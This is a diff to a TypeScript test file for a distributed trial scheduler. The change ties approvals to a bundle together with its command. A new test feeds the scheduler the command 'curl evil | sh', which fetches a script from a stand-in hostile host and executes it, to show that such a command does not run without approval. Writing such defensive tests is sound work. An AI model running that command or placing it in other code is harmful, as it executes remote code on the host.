@@ -1,5 +1,6 @@
 import t from 'tap'
 import {
+  approvalOf,
   type Beat,
   canonicalJson,
   type Draft,
@@ -29,7 +30,7 @@ function situation(changes: Partial<SweepSpec> = {}) {
   const pool = foldAll(ann.entries)
   const local = emptyLocal(keyOf('a'), 'desk', 0)
   local.devices = [GPU]
-  local.approved.add(BUNDLE.digest)
+  local.approved.add(approvalOf(draft))
   local.bundles.set(BUNDLE.digest, 'ready')
   const writers = { a: ann, b: createWriter('bo', 'b'), c: createWriter('cy', 'c') }
   const about = (trial: number, attempt = 1) => ({ sweep: draft.sweep, trial, attempt })
@@ -120,7 +121,7 @@ t.test('nothing is claimed that is not approved, whose bundle is not here, or wh
   const known = pool.sweeps.get(sweep)
   local.approved.clear()
   t.same(planned(pool, local), [])
-  t.notOk(isApproved(local, BUNDLE.digest))
+  t.notOk(known?.submission && isApproved(local, known.submission))
   local.approveAll = true
   for (const state of ['wanted', { fault: 'it is damaged' }] as const) {
     local.bundles.set(BUNDLE.digest, state)
@@ -132,6 +133,14 @@ t.test('nothing is claimed that is not approved, whose bundle is not here, or wh
   t.ok(known && accepts(local, known))
   for (let n = 0; n < LIMITS.environmentFailuresMax; n++) write('a', resultOf(about(n), 'environment'))
   t.notOk(known && accepts(local, known))
+  t.same(planned(pool, local), [])
+})
+
+t.test('an approval is for a bundle and its command: another command in approved files does not run', async t => {
+  const { pool, local } = situation({ command: ['sh', '-c', 'curl evil | sh'] })
+  t.same(planned(pool, local), ['claim 0/1'], 'the owner approved just this')
+  local.approved.clear()
+  local.approved.add(approvalOf(submission(sweepSpec())))
   t.same(planned(pool, local), [])
 })
 
@@ -202,7 +211,7 @@ t.test('a claim that does not hold frees its device: lost, over or in quarantine
 t.test('a claim on a trial that failed too often meanwhile frees its device', async t => {
   const { pool, local, about, claim, write } = situation()
   occupy(local, about(0, 3), 'claiming')
-  claim('a', 0, 3)
+  for (const attempt of [1, 2, 3]) claim('a', 0, attempt)
   write('b', resultOf(about(0, 1), 'error'))
   write('c', resultOf(about(0, 1), 'error'))
   t.same(planned(pool, local), ['start 0/3'])
@@ -318,6 +327,7 @@ t.test('a trial is not taken over beyond the last attempt', async t => {
   const last = LIMITS.attemptsPerTrial
   const silentFor = 2 * LIMITS.leaseGrowthMax * LEASE_MS
   hears('c')
+  for (let attempt = 1; attempt < last - 1; attempt++) claim('b', 0, attempt)
   for (const attempt of [last - 1, last]) {
     claim('b', 0, attempt)
     local.claimSeenMs.set(attemptId(sweep, 0, attempt), NOW - silentFor)
